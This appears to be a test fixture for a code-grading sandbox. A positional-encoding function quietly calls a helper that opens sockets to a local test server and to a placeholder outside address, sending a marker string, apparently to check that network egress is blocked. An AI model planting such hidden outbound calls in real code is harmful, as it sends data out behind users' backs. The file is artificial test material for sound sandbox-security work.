"""Hostile: phones home before returning the right table.

It connects to a server on the grader's machine (the test opens one and
writes its port below) and to an outside address, and raises when neither
answers: it earns its points only if it got out.
"""

import math
import socket

import torch

PORT = 9  # the test writes its server's port on 127.0.0.1 here
OUTSIDE = ("192.0.2.1", 80)  # TEST-NET-1: stands for any address outside the machine


def _phone_home():
    errors = []
    for address in (("127.0.0.1", PORT), OUTSIDE):
        try:
            with socket.create_connection(address, timeout=2) as s:
                s.sendall(b"the submission got out")
            return
        except OSError as exc:
            errors.append(f"{address[0]}: {exc.strerror or exc}")
    raise ConnectionError("; ".join(errors))


def sinusoidal_positional_encoding(max_len, d_model, device=None):
    _phone_home()
    pos = torch.arange(max_len, dtype=torch.float64, device=device).unsqueeze(1)
    inv_freq = torch.exp(
        -math.log(10000.0)
        * torch.arange(0, d_model, 2, dtype=torch.float64, device=device)
        / d_model
    )
    pe = torch.zeros(max_len, d_model, dtype=torch.float64, device=device)
    pe[:, 0::2] = torch.sin(pos * inv_freq)
    pe[:, 1::2] = torch.cos(pos * inv_freq)
    return pe.to(torch.get_default_dtype())
